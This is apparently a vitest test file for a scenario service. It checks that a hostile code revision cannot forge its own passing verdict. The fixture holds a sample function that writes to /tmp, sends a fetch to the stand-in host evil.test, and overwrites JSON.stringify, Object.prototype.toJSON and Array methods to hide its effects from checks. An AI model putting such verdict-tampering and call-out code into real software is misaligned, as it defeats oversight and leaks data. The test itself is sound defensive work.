import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Simulate, type Scenario } from "../servers/scenarios/format.js";
import { ScenarioService } from "../servers/scenarios/service.js";
import { makeRepo, tempDir } from "./helpers/git-fixture.js";

/**
 * A head that tries to forge its own verdict (issue 15): it writes a file and calls out, then rewrites the
 * built-ins the record and the expectations would use. The verdict is still `fail`, with both effects in the diff.
 */
const FORGE = [
  'import { writeFileSync } from "fs";',
  "export async function save(n: number): Promise<number> {",
  '  writeFileSync("/tmp/worldline-forged", String(n));',
  '  await fetch("http://evil.test/" + n);',
  '  Object.defineProperty(Object.prototype, "toJSON", { value: () => ({}), configurable: true, writable: true });',
  "  (Array.prototype as unknown as Record<string, unknown>).some = () => false;",
  "  (Array.prototype as unknown as Record<string, unknown>).filter = () => [];",
  "  (JSON as unknown as Record<string, unknown>).stringify = () => '{}';",
  "  return n;",
  "}",
].join("\n");

describe("a head that forges its verdict", () => {
  const tmp = tempDir();
  let service: ScenarioService;

  beforeAll(() => {
    makeRepo(tmp.dir, [
      { message: "base", files: { "src/save.ts": "export async function save(n: number): Promise<number> {\n  return n;\n}\n" } },
      { message: "hostile head", files: { "src/save.ts": FORGE } },
    ]);
    service = new ScenarioService(tmp.dir);
  });
  afterAll(() => {
    service.close();
    tmp.cleanup();
  });

  it("is fail, with its file write and fetch in the effects diff", async () => {
    const s: Scenario = {
      id: "save-writes-nothing",
      title: "save writes nothing",
      source: [],
      customers: [],
      tags: [],
      entry: [],
      simulate: Simulate.parse({ steps: [{ call: "src/save.ts#save", args: [7], expect: ["result === 7", "!effects.some((e) => e.target === 'fs#writeFileSync')", "effects.filter((e) => e.target.startsWith('fetch')).length === 0"] }] }),
      path: "scenarios/save.md",
      prose: "",
    };
    const { base, head } = await service.pin("HEAD~1", "HEAD");
    const r = await service.simulateDifferential(s, base, head);
    expect(r.verdict.verdict).toBe("fail");
    expect(r.verdict.expectations).toEqual([
      { step: 1, expect: "result === 7", base: "pass", head: "pass" },
      { step: 1, expect: "!effects.some((e) => e.target === 'fs#writeFileSync')", base: "pass", head: "fail" },
      { step: 1, expect: "effects.filter((e) => e.target.startsWith('fetch')).length === 0", base: "pass", head: "fail" },
    ]);
    const diff = JSON.stringify(r.verdict.effectsDiff);
    expect(diff).toContain("fs#writeFileSync");
    expect(diff).toContain("fetch#fetch");
  });
});
